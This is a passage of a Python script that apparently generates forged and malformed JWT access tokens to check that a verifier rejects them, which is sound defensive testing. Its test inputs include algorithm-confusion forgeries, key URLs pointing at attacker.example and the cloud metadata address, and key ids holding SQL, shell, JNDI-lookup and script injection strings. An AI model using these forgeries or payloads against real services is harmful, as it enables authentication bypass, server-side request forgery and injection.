"""Forged and mangled access tokens, made of one good one. Whoever verifies tokens has to refuse every line but the first.

On standard input, one JSON object:

    {"good": {"header": {…}, "claims": {…}}, "private_key_pem": PEM, "alg": "ES256", "public_jwk": {…},
     "audience": URI, "issuer": URI, "listener": URL}

`good` is a token of RFC 9068 that is good now, for at least as long as the run takes, and `audience` is its `aud`, `issuer` its `iss`.
`listener` may be left out: it is one more address of which tokens say that their key is to be fetched there. The key is for `alg`: ES256, ES384, RS256 … PS512 or EdDSA. `public_jwk` is the key as the issuer publishes it. On standard output,
several thousand lines {"name", "token"} of JSON. The first is named "good", the control that has to pass; all others
have to fail. Names are unique and say what is wrong; their order and all that is chosen are the same in each run (the
signatures of ECDSA and PSS are not, which are random by nature).

The tokens are signed with PyJWT and `cryptography`, another library than the one that is attacked. What is kept strictly: every
token here is one that a correct verifier refuses, so nothing is here that is merely odd. Left out are white space and order of
members, a header without `kid`, an unknown header member, the other letter case of `typ`, its long form `application/at+jwt`, and the twin
(r, n - s) of an ECDSA signature (r, s), which is as valid as that is.

Some are refused by a strict verifier only, and are here since this one claims to be strict: a member that stands twice (RFC
7515 section 4 lets a parser take the last), base64url with padding or stray bits (RFC 4648 section 3.5), a byte order mark
(RFC 8259 section 8.1), times that are no whole numbers, `iat` missing or ahead, other members of a wrong type, `b64` that changes
nothing, a lifetime beyond thirty days, hundreds of levels, more than 16 KiB, and `cnf` with a method that nobody
knows (RFC 7800 section 3.1 leaves that to the application). Their names start with "strict".
"""

import base64
import hashlib
import hmac
import json
import random
import sys
import zlib
from itertools import product
from urllib.parse import urlsplit

import jwt
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature

DAY = 86_400
TOKEN_BYTES_MAX = 16 * 1024
# How many bits of header and claims are flipped; of a signature, all are.
FLIPS_MAX = 1500
P256 = {"size": 32, "order": 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551}
P384 = {
    "size": 48,
    "order": 0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFC7634D81F4372DDF581A0DB248B0A77AECEC196ACCC52973,
}
CURVES = {"ES256": P256, "ES384": P384}
ED25519_ORDER = 2**252 + 27742317777372353535851937790883648493


def main():
    """Reads what is good, writes what is not."""
    forge = Forge(json.load(sys.stdin))
    seen = set()
    for name, token in [("good", forge.good), *forge.all()]:
        # A change that changes nothing, as upper case of an address in figures, is no forgery.
        if name != "good" and token == forge.good:
            continue
        assert name not in seen, name
        seen.add(name)
        print(json.dumps({"name": name, "token": token}))


class Forge:
    """Everything that is made of one good token."""

    def __init__(self, plan):
        self.header = plan["good"]["header"]
        self.claims = plan["good"]["claims"]
        self.alg = plan["alg"]
        self.jwk = plan["public_jwk"]
        self.audience = plan["audience"]
        self.issuer = plan["issuer"]
        self.listener = plan.get("listener")
        self.key = serialization.load_pem_private_key(plan["private_key_pem"].encode(), None)
        self.algorithms = jwt.algorithms.get_default_algorithms()
        self.random = random.Random("sekisho")
        self.other = self.stranger()
        self.good = self.signed(self.header, self.claims)
        self.parts = self.good.split(".")

    def all(self):
        """Every forgery, group by group, each name prefixed with its group's."""
        groups = [
            ("none", self.unsigned),
            ("hmac", self.hmac),
            ("algorithm", self.confused),
            ("stranger", self.strangers),
            ("key in header", self.brought_keys),
            ("kid", self.kids),
            ("critical", self.critical),
            ("typ", self.types),
            ("header", self.headers),
            ("audience", self.audiences),
            ("issuer", self.issuers),
            ("time", self.times),
            ("missing", self.missing),
            ("shape", self.shapes),
            ("cnf", self.confirmations),
            ("json", self.broken_json),
            ("strict twice", self.twice),
            ("strict base64", self.base64),
            ("parts", self.part_counts),
            ("encrypted", self.encrypted),
            ("strict size", self.sizes),
            ("signature", self.signatures),
            ("mixed", self.mixed),
            ("flip", self.flips),
        ]
        for group, make in groups:
            for name, token in make():
                yield f"{group}: {name}" if not name.startswith("strict") else f"strict {group}: {name[7:]}", token

    # Signing

    def signature(self, text, alg=None, key=None):
        """The signature of an algorithm over text, of the issuer's key unless another one is given."""
        algorithm = self.algorithms[alg or self.alg]
        text = text if isinstance(text, bytes) else text.encode()
        return algorithm.sign(text, key or self.key)

    def signed(self, header, claims, **how):
        """A token of header and claims, each an object or text or bytes."""
        return self.sealed(f"{part(header)}.{part(claims)}", **how)

    def sealed(self, text, **how):
        """Text with its signature behind it."""
        return f"{text}.{b64(self.signature(text, **how))}"

    def with_header(self, **changes):
        """The good claims under another header, well signed."""
        return self.signed(changed(self.header, changes), self.claims)

    def with_claims(self, **changes):
        """Other claims under the good header, well signed."""
        return self.signed(self.header, changed(self.claims, changes))

    def stranger(self):
        """A key of the same kind that the issuer does not have."""
        if isinstance(self.key, rsa.RSAPrivateKey):
            return rsa.generate_private_key(65537, self.key.key_size)
        if isinstance(self.key, ed25519.Ed25519PrivateKey):
            return ed25519.Ed25519PrivateKey.generate()
        return ec.generate_private_key(self.key.curve)

    # Algorithms and keys

    def unsigned(self):
        """RFC 8725 section 3.1: `none` in all letter cases, and with what may stand where the signature would."""
        words = ["".join(letters) for letters in product(*((one, one.upper()) for one in "none"))]
        for word in [*words, "", " none", "none ", "none\x00", "null", "NoNe\n"]:
            text = f"{part(changed(self.header, {'alg': word}))}.{self.parts[1]}"
            yield f"{word!r}, no signature", f"{text}."
            yield f"{word!r}, the good one's signature", f"{text}.{self.parts[2]}"
            yield f"{word!r}, well signed", self.sealed(text)
        for value in [None, 0, False, [], {}, ["none"], [self.alg], {"alg": self.alg}, 7, True]:
            yield f"{json.dumps(value)}", self.signed({**self.header, "alg": value}, self.claims)
            yield f"{json.dumps(value)}, no signature", f"{part({**self.header, 'alg': value})}.{self.parts[1]}."
        yield "absent", self.with_header(alg=ABSENT)
        yield "absent, no signature", f"{part(changed(self.header, {'alg': ABSENT}))}.{self.parts[1]}."

    def hmac(self):
        """The public key, which everybody has, taken as the secret of an HMAC (RFC 8725 section 2.1)."""
        for (name, secret), bits in product(self.public_forms(), (256, 384, 512)):
            text = f"{part(changed(self.header, {'alg': f'HS{bits}'}))}.{self.parts[1]}"
            yield f"HS{bits} with {name}", f"{text}.{b64(mac(secret, text, bits))}"
        # The header says what is accepted, the signature is an HMAC all the same.
        for name, secret in self.public_forms():
            yield f"{self.alg} with {name}", f"{self.parts[0]}.{self.parts[1]}.{b64(mac(secret, '.'.join(self.parts[:2]), 256))}"

    def public_forms(self):
        """The public key as somebody could have it in a file or in memory."""
        public = self.key.public_key()
        encodings, formats = serialization.Encoding, serialization.PublicFormat
        spki = public.public_bytes(encodings.PEM, formats.SubjectPublicKeyInfo)
        forms = [
            ("SPKI as PEM", spki),
            ("SPKI as PEM, no last line end", spki.rstrip()),
            ("SPKI as PEM, CRLF", spki.replace(b"\n", b"\r\n")),
            ("SPKI as PEM, without armour", b"".join(spki.splitlines()[1:-1])),
            ("SPKI as DER", public.public_bytes(encodings.DER, formats.SubjectPublicKeyInfo)),
        ]
        if isinstance(public, rsa.RSAPublicKey):
            pem = public.public_bytes(encodings.PEM, formats.PKCS1)
            number = public.public_numbers().n
            raw = number.to_bytes((number.bit_length() + 7) // 8, "big")
            forms += [("PKCS #1 as PEM", pem), ("PKCS #1 as PEM, no last line end", pem.rstrip())]
            forms += [("PKCS #1 as DER", public.public_bytes(encodings.DER, formats.PKCS1)), ("modulus", raw)]
        elif isinstance(public, ec.EllipticCurvePublicKey):
            forms += [
                ("point", public.public_bytes(encodings.X962, formats.UncompressedPoint)),
                ("point, compressed", public.public_bytes(encodings.X962, formats.CompressedPoint)),
                ("coordinates", public.public_bytes(encodings.X962, formats.UncompressedPoint)[1:]),
            ]
        else:
            forms.append(("raw key", public.public_bytes(encodings.Raw, formats.Raw)))
        key_set = {"keys": [self.jwk]}
        for name, value in [("JWK", self.jwk), ("key set", key_set)]:
            forms.append((f"{name}, compact", json.dumps(value, separators=(",", ":")).encode()))
            forms.append((f"{name}, sorted", json.dumps(value, separators=(",", ":"), sort_keys=True).encode()))
            forms.append((f"{name}, spaced", json.dumps(value).encode()))
            forms.append((f"{name}, indented", json.dumps(value, indent=2).encode()))
        forms += [(f"JWK's {name}", str(self.jwk[name]).encode()) for name in sorted(self.jwk)]
        words = ["", "secret", "null", "undefined", "0", "password", "changeme", "your-256-bit-secret", self.audience, self.issuer]
        return unique([*forms, *((f"the word {word!r}", word.encode()) for word in words), ("a zero byte", b"\0"),
            ("32 zero bytes", bytes(32))])

    def confused(self):
        """The header names another algorithm than the key is for; the signature is the issuer's own over that header."""
        names = [
            "RS256", "RS384", "RS512", "PS256", "PS384", "PS512", "ES256", "ES384", "ES512", "ES256K", "EdDSA", "Ed448", "HS256",
            "HS384", "HS512", "HS1", "RS1", "ML-DSA-44", "ML-DSA-65", "dir", "RSA-OAEP", "A128KW", "ECDH-ES", "A256GCM", "RSA1_5",
            "PBES2-HS256+A128KW", "SHA256", "HMAC", "RSA", "ECDSA", "sha256WithRSAEncryption", "1.2.840.113549.1.1.11",
        ]
        letters = {self.alg.lower(), self.alg.upper(), self.alg.title(), self.alg.swapcase()}
        near = [*sorted(letters), f"{self.alg} ", f" {self.alg}", f"{self.alg}\0", f"{self.alg}\n", self.alg[:-1], f"{self.alg}6"]
        for name in dict.fromkeys([*names, *near]):
            if name != self.alg and not (self.alg == "EdDSA" and name == "Ed25519"):
                yield f"{name!r} over the key's own signature", self.with_header(alg=name)
                yield f"{name!r} over the good signature", f"{part({**self.header, 'alg': name})}.{self.parts[1]}.{self.parts[2]}"
        if isinstance(self.key, rsa.RSAPrivateKey):
            for name in ["RS256", "RS384", "RS512", "PS256", "PS384", "PS512"]:
                if name == self.alg:
                    continue
                yield f"{self.alg}, but signed with {name}", self.signed(self.header, self.claims, alg=name)
                # Only where the published key says what it is for is this another's.
                if self.jwk.get("alg") == self.alg:
                    yield f"{name} in full, not the key's", self.signed({**self.header, "alg": name}, self.claims, alg=name)

    def strangers(self):
        """Whole tokens, but of other keys, of every kind."""
        rsa_key = rsa.generate_private_key(65537, 2048)
        kinds = {"ES256": ec.SECP256R1(), "ES384": ec.SECP384R1(), "ES512": ec.SECP521R1(), "ES256K": ec.SECP256K1()}
        keys = {
            **{name: ec.generate_private_key(curve) for name, curve in kinds.items()},
            **{f"{scheme}{bits}": rsa_key for scheme in ("RS", "PS") for bits in (256, 384, 512)},
            "EdDSA": ed25519.Ed25519PrivateKey.generate(),
        }
        for name, key in keys.items():
            yield f"{name} under the issuer's kid", self.signed({**self.header, "alg": name}, self.claims, alg=name, key=key)
            yield f"{name} under its own kid", self.signed({**self.header, "alg": name, "kid": "stranger"}, self.claims, alg=name, key=key)
            without = changed(self.header, {"alg": name, "kid": ABSENT})
            yield f"{name} without kid", self.signed(without, self.claims, alg=name, key=key)
            yield f"{name} under the good header", self.signed(self.header, self.claims, alg=name, key=key)

    def brought_keys(self):
        """A token brings its key, or says where to fetch one (RFC 8725 section 3.10). The key is the attacker's."""
        mine = json.loads(self.algorithms[self.alg].to_jwk(self.other.public_key()))
        mine["kid"] = self.header.get("kid", "1")
        addresses = [
            "https://attacker.example/jwks.json", "http://127.0.0.1:9/jwks.json", "file:///dev/stdin", "data:application/json,{}",
            f"{self.issuer}@attacker.example/jwks", f"{self.issuer}/../jwks", "//attacker.example/jwks", "gopher://127.0.0.1:70/x",
            "http://169.254.169.254/latest/meta-data/", "http://[::1]:9/", "ftp://attacker.example/k",
        ]
        addresses += [self.listener] if self.listener else []
        chain = [base64.b64encode(b"MIIB no certificate").decode()]
        spki = self.other.public_key().public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
        members = [("jwk", mine), ("jwk", {**mine, "alg": self.alg, "use": "sig"}), ("jwks", {"keys": [mine]}), ("jwk", {"keys": [mine]})]
        members += [("jwk", {"kty": "oct", "k": "AAAA"}), ("x5c", chain), ("x5c", [base64.b64encode(spki).decode()]), ("x5c", [])]
        members += [(name, address) for name in ("jku", "x5u", "iss_jwks", "jwks_uri") for address in addresses]
        for at, (member, value) in enumerate(members):
            header = {**self.header, member: value}
            yield f"{member} {at}", self.signed(header, self.claims, key=self.other)
            yield f"{member} {at}, without kid", self.signed(changed(header, {"kid": ABSENT}), self.claims, key=self.other)
        thumbprint = b64(hashlib.sha1(spki).digest())
        yield "x5t of a stranger", self.signed({**self.header, "x5t": thumbprint, "x5t#S256": thumbprint}, self.claims, key=self.other)
        zero = f"{part({**self.header, 'alg': 'HS256', 'jwk': {'kty': 'oct', 'k': ''}})}.{self.parts[1]}"
        yield "an empty secret as jwk", f"{zero}.{b64(mac(b'', zero, 256))}"

    def kids(self):
        """A key id that is more than a name to somebody: a path, a query, a command. Signed by a stranger, and with the secret that
        such a path would yield."""
        names = [
            "../../../../../../dev/null", "/dev/null", "../" * 40 + "proc/sys/kernel/randomize_va_space", "..\\..\\nul", "file:///dev/null",
            "/proc/self/environ", "' UNION SELECT 'secret' -- ", "' OR '1'='1", "1; DROP TABLE keys", "\" OR \"\"=\"",
            "x' UNION SELECT 'AA';--", "https://attacker.example/jwks.json", "http://127.0.0.1:9/", "//attacker.example", "$(id)", "`id`",
            "| id", "; id", "%00", "\0", "{{7*7}}", "${7*7}", "${jndi:ldap://attacker.example/a}", "<script>alert(1)</script>", "*", "**",
            ".*", "%", "_", "", " ", "null", "undefined", "NaN", "true", "0", "-1", "__proto__", "constructor", "toString",
            "\r\nX-Injected: 1", "\u202e", "\ufeff", f"{self.header.get('kid', '')} ", f" {self.header.get('kid', '')}",
            f"{self.header.get('kid', '')}\0", f"{self.header.get('kid', '')}/../x", str(self.header.get("kid", "")).swapcase() + "x",
            "k" * 513, "k" * 4096,
        ]
        for at, name in enumerate(names):
            yield f"{at} {name[:40]!r}, a stranger's", self.signed({**self.header, "kid": name}, self.claims, key=self.other)
            for secret in (b"", b"secret", b"AA"):
                text = f"{part({**self.header, 'alg': 'HS256', 'kid': name})}.{self.parts[1]}"
                yield f"{at} {name[:40]!r}, HMAC with {secret!r}", f"{text}.{b64(mac(secret, text, 256))}"
        for value in [0, 7, -1, 1.5, True, False, [], {}, [self.header.get("kid")], {"kid": self.header.get("kid")}, [[]]]:
            yield f"{json.dumps(value)}", self.signed({**self.header, "kid": value}, self.claims)

    def critical(self):
        """Extensions that have to be understood (RFC 7515 section 4.1.11; RFC 7797 section 7 forbids `b64` in a JWT). Well signed."""
        lists = [
            ["x"], ["exp"], ["b64"], ["http://example.com/ext"], ["alg"], ["typ"], ["kid"], ["cty"], [""], [" "], ["x", "x"], ["crit"],
            [None], [7],
            [["x"]], [{}], [], "x", "exp", {}, {"x": 1}, 7, True, False, "", None,
        ]
        for at, value in enumerate(lists):
            yield f"{at} crit {json.dumps(value)}", self.signed({**self.header, "crit": value}, self.claims)
            yield f"{at} crit {json.dumps(value)}, members there", self.signed(
                {**self.header, "crit": value, "exp": 1, "x": 1, "http://example.com/ext": True}, self.claims
            )
        yield "b64 false, crit", self.signed({**self.header, "b64": False, "crit": ["b64"]}, self.claims)
        yield "strict b64 true, crit", self.signed({**self.header, "b64": True, "crit": ["b64"]}, self.claims)
        yield "strict b64 false alone", self.signed({**self.header, "b64": False}, self.claims)
        head = part({**self.header, "b64": False, "crit": ["b64"]})
        raw = json.dumps(self.claims, separators=(",", ":"))
        yield "b64 false, claims as they are", f"{head}.{raw}.{b64(self.signature(f'{head}.{raw}'))}"
        yield "b64 false, signed over claims as they are", f"{head}.{self.parts[1]}.{b64(self.signature(f'{head}.{raw}'))}"

    def types(self):
        """A token of another kind (RFC 9068 section 4; RFC 8725 section 3.11). Well signed."""
        values = [
            "JWT", "jwt", "Jwt", "application/jwt", "id_token", "id+jwt", "ID", "logout+jwt", "application/logout+jwt", "dpop+jwt",
            "secevent+jwt", "oauth-authz-req+jwt", "token-introspection+jwt", "client-authentication+jwt", "oauth-client-attestation+jwt",
            "entity-statement+jwt", "txn_token", "txntoken+jwt", "oauth-id-jag+jwt", "vc+sd-jwt", "dc+sd-jwt", "kb+jwt", "rt+jwt", "JOSE",
            "JOSE+JSON", "JWE", "JWS", "", " ", "at", "at+", "+jwt", "at+jwt2", "at+jw", "atjwt", "at jwt", "at_jwt", "at-jwt", "at%2Bjwt",
            "at+jwt ", " at+jwt", "at+jwt\0", "\0at+jwt", "at+jwt\n", "at+jwt;charset=utf-8", "at+jwt, JWT", "text/at+jwt",
            "application/at", "application/application/at+jwt", "/at+jwt", "at+jwt/", "application//at+jwt", "application\\at+jwt",
            "application/ at+jwt", "\u0430t+jwt", "at\uff0bjwt", "at+\u0458wt", "\uff41\uff54+jwt", "a\u0301t+jwt", "at+jwt\u200b",
            "\ufeffat+jwt", None, 0, 7, True, False, [], ["at+jwt"], {}, {"at+jwt": True},
        ]
        for value in values:
            yield f"{json.dumps(value)}", self.signed({**self.header, "typ": value}, self.claims)
        yield "absent", self.with_header(typ=ABSENT)
        yield "in another letter case's member", self.signed({**changed(self.header, {"typ": ABSENT}), "Typ": "at+jwt"}, self.claims)
        yield "in the claims", self.signed(changed(self.header, {"typ": ABSENT}), {**self.claims, "typ": "at+jwt"})
        yield "in cty", self.signed({**changed(self.header, {"typ": ABSENT}), "cty": "at+jwt"}, self.claims)

    def headers(self):
        """Things that are no header, well signed, and contents that are no claims."""
        for value in [[], {}, "x", 7, None, True, [self.header], json.dumps(self.header), 1.5]:
            yield f"{json.dumps(value)[:40]}", self.signed(json.dumps(value), self.claims)
        nested = self.good
        yield "nested token", self.signed({**self.header, "cty": "JWT"}, nested)
        yield "nested token as a string", self.signed({**self.header, "cty": "JWT"}, json.dumps(nested))
        deflated = zlib.compress(json.dumps(self.claims).encode(), 9)
        yield "deflated", self.signed({**self.header, "zip": "DEF"}, deflated[2:-4])
        yield "deflated, with its envelope", self.signed({**self.header, "zip": "DEF"}, deflated)
        yield "a bomb, deflated", self.signed({**self.header, "zip": "DEF"}, zlib.compress(b" " * 4_000_000, 9)[2:-4])

    # Claims

    def audiences(self):
        """Addresses that look like ours, and lists without it. Well signed."""
        for name, value in self.look_alikes(self.audience):
            yield f"{name}", self.with_claims(aud=value)
            yield f"{name}, in a list", self.with_claims(aud=[value])
        others = ["https://other.example/mcp", "https://attacker.example/mcp", "urn:x"]
        parts = urlsplit(self.audience)
        lists = [
            [], others, others * 30, [""], [None], [[self.audience]], [{"aud": self.audience}], {}, {"0": self.audience},
            {self.audience: True}, None, 7, 0, True, False, "", json.dumps([self.audience]), f"[{self.audience}]",
            f"{self.audience} https://other.example", f"https://other.example {self.audience}", f"{self.audience},https://other.example",
            list(self.audience), list(parts), "*", "https://*", "**", ".*", "%", "null", "any", "account", self.issuer,
            self.claims.get("client_id", "client"), self.claims.get("sub", "sub"), self.audience.encode().hex(),
            b64(self.audience.encode()), base64.b64encode(self.audience.encode()).decode(), self.audience[::-1],
            hashlib.sha256(self.audience.encode()).hexdigest(),
        ]
        for at, value in enumerate(lists):
            yield f"{at} {json.dumps(value)[:60]}", self.with_claims(aud=value)
        for value in [[self.audience, 7], [7, self.audience], [self.audience, None], [self.audience, [self.audience]], [self.audience, ""]]:
            yield f"strict {json.dumps(value)}", self.with_claims(aud=value)
        yield "in another letter case's member", self.signed(self.header, {**changed(self.claims, {"aud": ABSENT}), "Aud": self.audience})
        yield "in resource instead", self.signed(self.header, {**changed(self.claims, {"aud": ABSENT}), "resource": self.audience})
        yield "in the header only", self.signed({**self.header, "aud": self.audience}, changed(self.claims, {"aud": ABSENT}))
        yield "ours in azp only", self.with_claims(aud="https://other.example", azp=self.audience)

    def issuers(self):
        """Names that look like the issuer's. Well signed, by the issuer's own key."""
        for name, value in self.look_alikes(self.issuer):
            yield f"{name}", self.with_claims(iss=value)
        values = [
            "https://attacker.example", "https://login.example/{tenantid}/v2.0", [self.issuer], [self.issuer, self.issuer],
            {"iss": self.issuer}, None, 7, True, "", "null", "*", self.audience, [], {}, f"{self.issuer} https://attacker.example",
            f"{self.issuer},https://attacker.example", f"{self.issuer}/.well-known/openid-configuration", f"{self.issuer}/jwks",
        ]
        for at, value in enumerate(values):
            yield f"{at} {json.dumps(value)[:60]}", self.with_claims(iss=value)
        yield "in the header only", self.signed({**self.header, "iss": self.issuer}, changed(self.claims, {"iss": ABSENT}))
        yield "in another letter case's member", self.signed(self.header, {**changed(self.claims, {"iss": ABSENT}), "Iss": self.issuer})

    def look_alikes(self, text):
        """Text that a comparison which is not byte by byte could take for the given one."""
        url = urlsplit(text)
        host, port, rest = url.hostname or text, url.port, f"{url.path}{f'?{url.query}' if url.query else ''}"
        at = lambda authority, scheme=url.scheme, path=rest: f"{scheme}://{authority}{path}"
        default = {"https": 443, "http": 80}.get(url.scheme, 1)
        other_scheme = "http" if url.scheme == "https" else "https"
        swaps = {"a": "\u0430", "e": "\u0435", "o": "\u043e", "c": "\u0441", "p": "\u0440", "x": "\u0445", "i": "\u0456", "m": "\uff4d",
            "1": "\uff11", "0": "\uff10", ".": "\u3002", "/": "\u2215", ":": "\uff1a"}
        found = [
            ("slash added", f"{text}/"), ("slash taken", text.removesuffix("/")), ("two slashes added", f"{text}//"),
            ("path gone", at(url.netloc, path="")), ("path is a slash", at(url.netloc, path="/")), ("parent", text.rsplit("/", 1)[0]),
            ("child", f"{text}/x"), ("longer", f"{text}x"), ("shorter", text[:-1]), ("without its first character", text[1:]),
            ("upper case", text.upper()), ("lower case", text.lower()), ("title case", text.title()), ("swapped case", text.swapcase()),
            ("upper case scheme", at(url.netloc, url.scheme.upper())), ("upper case host", at(url.netloc.upper())),
            ("upper case path", at(url.netloc, path=rest.upper())), ("other scheme", at(url.netloc, other_scheme)),
            ("no scheme", f"//{url.netloc}{rest}"), ("bare", f"{url.netloc}{rest}"), ("ws scheme", at(url.netloc, "ws")),
            ("default port", at(f"{host}:{default}")), ("port 443", at(f"{host}:443")), ("port 80", at(f"{host}:80")),
            ("empty port", at(f"{host}:")), ("no port", at(host)), ("port with zero", at(f"{host}:0{port or default}")),
            ("next port", at(f"{host}:{(port or default) + 1}")), ("port shortened", at(f"{host}:{str(port or default)[:-1]}")),
            ("user", at(f"user@{url.netloc}")), ("user and password", at(f"u:p@{url.netloc}")),
            ("as user of another", at(f"{url.netloc}@attacker.example")), ("empty user", at(f"@{url.netloc}")),
            ("as another's subdomain", at(f"{host}.attacker.example")), ("subdomain", at(f"x.{url.netloc}")),
            ("prefixed host", at(f"x{url.netloc}")), ("host with a dot", at(f"{host}.{f':{port}' if port else ''}")),
            ("in another's path", f"https://attacker.example/{text}"),
            ("in another's query", f"https://attacker.example/?{text}"), ("in another's fragment", f"https://attacker.example/#{text}"),
            ("query", f"{text}?x=1"), ("empty query", f"{text}?"), ("fragment", f"{text}#x"), ("empty fragment", f"{text}#"),
            ("semicolon", f"{text};x"), ("dot segment", f"{text}/."), ("dot segments", at(url.netloc, path=f"/x/..{rest}")),
            ("double slash path", at(url.netloc, path=f"/{rest}")), ("backslash", text.replace("/", "\\")),
            ("last character in percent", f"{text[:-1]}%{ord(text[-1]):02X}"), ("slash in percent", f"{text}%2F"),
            ("path in percent", at(url.netloc, path=rest.replace("/", "%2f"))), ("zero byte", f"{text}\0"),
            ("zero byte and more", f"{text}\0.attacker.example"), ("space behind", f"{text} "), ("space before", f" {text}"),
            ("tab", f"{text}\t"), ("line end", f"{text}\n"), ("carriage return", f"\r{text}"), ("space inside", at(f"{url.netloc} ")),
            ("no-break space", f"{text}\u00a0"), ("zero width space", f"{text}\u200b"), ("byte order mark", f"\ufeff{text}"),
            ("soft hyphen", f"{text[:9]}\u00ad{text[9:]}"), ("right to left", f"\u202e{text}"), ("combining mark", f"{text}\u0301"),
            ("variation selector", f"{text}\ufe0f"), ("twice", text * 2), ("in quotes", f'"{text}"'), ("in angle brackets", f"<{text}>"),
            ("escaped", text.replace("/", "\\/")), ("entity", text.replace("/", "&#47;")), ("wildcard", f"{url.scheme}://*{rest}"),
            ("urn", f"urn:{text}"), ("api scheme", at(url.netloc, "api")),
        ]
        found += [(f"look-alike of {one!r}", text.replace(one, twin)) for one, twin in swaps.items()]
        found += [(f"look-alike of the last {one!r}", twin.join(text.rsplit(one, 1))) for one, twin in swaps.items() if text.count(one) > 1]
        found += [(f"cut to {length}", text[:length]) for length in range(1, len(text), 5)]
        found += [(f"tail of {length}", text[-length:]) for length in range(1, len(text), 7)]
        return unique((name, value) for name, value in found if value != text)

    def times(self):
        """Times that have passed, have not come, or are none. Measured from the good token's `iat`; nothing is near enough to be a
        matter of clocks."""
        began = self.claims["iat"]
        lifetime = 300
        for ago in [600, 900, 3600, DAY, 30 * DAY, 365 * DAY, 20 * 365 * DAY]:
            yield f"expired {ago} s ago", self.with_claims(iat=began - ago - lifetime, nbf=began - ago - lifetime, exp=began - ago)
        for ahead in [7200, DAY, 30 * DAY, 365 * DAY, 50 * 365 * DAY]:
            yield f"nbf {ahead} s ahead", self.with_claims(nbf=began + ahead, exp=began + ahead + lifetime)
            yield f"strict iat {ahead} s ahead", self.with_claims(iat=began + ahead, nbf=ABSENT, exp=began + ahead + lifetime)
        for lives in [31 * DAY, 90 * DAY, 365 * DAY, 10 * 365 * DAY, 100 * 365 * DAY]:
            yield f"strict lives {lives} s", self.with_claims(exp=began + lives)
            yield f"strict began {lives} s ago", self.with_claims(iat=began - lives, exp=began + lifetime)
        for value in [0, 1, -1, -began, -(2**31), -(2**63)]:
            yield f"exp {value}", self.with_claims(exp=value)
        for value in ["-0", "1", "2e9", "99999999999999999999", "1e400", "-1e400", str(2**63), str(2**64), str(2**64 + began),
            str(2**53 + 1), str(2**32 + began)]:
            yield f"strict exp {value} as it stands", self.signed(self.header, self.raw("exp", value))
            yield f"strict iat {value} as it stands", self.signed(self.header, self.raw("iat", value))
        for claim in ("exp", "iat", "nbf"):
            for value in [f"{began + lifetime}", f"{began + lifetime}.0", "", "never", "now", True, False, [], [began + lifetime], {},
                {"value": began + lifetime}]:
                yield f"{claim} {json.dumps(value)}", self.with_claims(**{claim: value})
            for value in [f"{began + lifetime}.5", f"{began + lifetime}.0", f"{(began + lifetime) / 1e9}e9", f"{began + lifetime}e0",
                f"{(began + lifetime)}0e-1"]:
                yield f"strict {claim} {value} as it stands", self.signed(self.header, self.raw(claim, value))
            for value in ["Infinity", "-Infinity", "NaN", f"0x{began + lifetime:x}", f"0{began + lifetime}", f"+{began + lifetime}",
                f"{began + lifetime}.", ".5", "1_000", "", "undefined"]:
                yield f"{claim} {value!r} as it stands", self.signed(self.header, self.raw(claim, value))
        yield "strict exp in milliseconds", self.with_claims(exp=(began + lifetime) * 1000)
        yield "ended before it began", self.with_claims(iat=began, exp=began - 3600)
        yield "nbf in milliseconds", self.with_claims(nbf=began * 1000)
        yield "exp in the header", self.signed({**self.header, "exp": began + lifetime}, changed(self.claims, {"exp": ABSENT}))

    def raw(self, claim, text):
        """The claims as text, with one value written as given."""
        marked = json.dumps({**self.claims, claim: "\ue000"}, separators=(",", ":"))
        return marked.replace('"\\ue000"', text)

    def missing(self):
        """What RFC 9068 section 2.2 requires and a decision is made on, one by one. `jti` and `client_id` are not here: nobody has to
        look at them."""
        for claim in ("iss", "sub", "aud", "exp"):
            yield claim, self.with_claims(**{claim: ABSENT})
            yield f"{claim} is null", self.with_claims(**{claim: None})
        yield "strict iat", self.with_claims(iat=ABSENT)
        yield "strict iat is null", self.with_claims(iat=None)
        yield "everything", self.signed(self.header, {})
        yield "everything but exp", self.signed(self.header, {"exp": self.claims["exp"]})
        for claim in ("iss", "sub", "aud", "exp", "iat"):
            for other in (claim.upper(), claim.title(), f"{claim} ", f" {claim}", f"{claim}\0", f"{claim}\u200b"):
                claims = changed(self.claims, {claim: ABSENT, other: self.claims[claim]})
                yield f"strict {claim} as {other!r}" if claim == "iat" else f"{claim} as {other!r}", self.signed(self.header, claims)

    def shapes(self):
        """Claims of another type than they have."""
        for value in ["", 0, 7, True, False, [], {}, [self.claims["sub"]], {"sub": self.claims["sub"]}, 1.5]:
            yield f"sub {json.dumps(value)}", self.with_claims(sub=value)
        for value in [7, True, [], {}, ["x"], 1.5]:
            yield f"strict client_id {json.dumps(value)}", self.with_claims(client_id=value)
        for value in [7, True, {}, {"mcp": True}, 1.5]:
            yield f"strict scope {json.dumps(value)}", self.with_claims(scope=value)
        for value in [[], "x", 7, None, True, [self.claims], json.dumps(self.claims), 1.5]:
            yield f"claims {json.dumps(value)[:40]}", self.signed(self.header, json.dumps(value))

    def confirmations(self):
        """A token that is bound to a key, presented as if it were not: here there is neither a proof nor a certificate (RFC 7800,
        9449, 8705)."""
        thumbprint = b64(hashlib.sha256(b"somebody else's").digest())
        mine = json.loads(self.algorithms[self.alg].to_jwk(self.other.public_key()))
        bound = [{"jkt": thumbprint}, {"x5t#S256": thumbprint}, {"jkt": thumbprint, "x5t#S256": thumbprint}, {"jkt": ""}, {"x5t#S256": ""}]
        bound += [{"jkt": value} for value in (None, 7, [], {}, [thumbprint], True)] + [{"x5t#S256": value} for value in (None, 7, [], {},
            True)]
        for value in bound:
            yield f"{json.dumps(value)[:60]}", self.with_claims(cnf=value)
        unknown = [
            {}, {"unknown": "x"}, {"jwk": mine}, {"jwe": "a.b.c.d.e"}, {"kid": "1"}, {"jku": "https://attacker.example"},
            {"x5t": thumbprint}, {"x5t#S384": thumbprint},
            {"jkt ": thumbprint}, {"JKT": thumbprint}, {"X5T#S256": thumbprint}, {"jkt#S256": thumbprint}, {"osc": {}}, {"tbh": "x"},
            {"": ""}, {"htm": "POST"},
            "jkt", "", [], [{"jkt": thumbprint}], 7, True, False, None,
        ]
        for value in unknown:
            members = ", ".join(map(repr, value)) if value and isinstance(value, dict) else json.dumps(value)[:60]
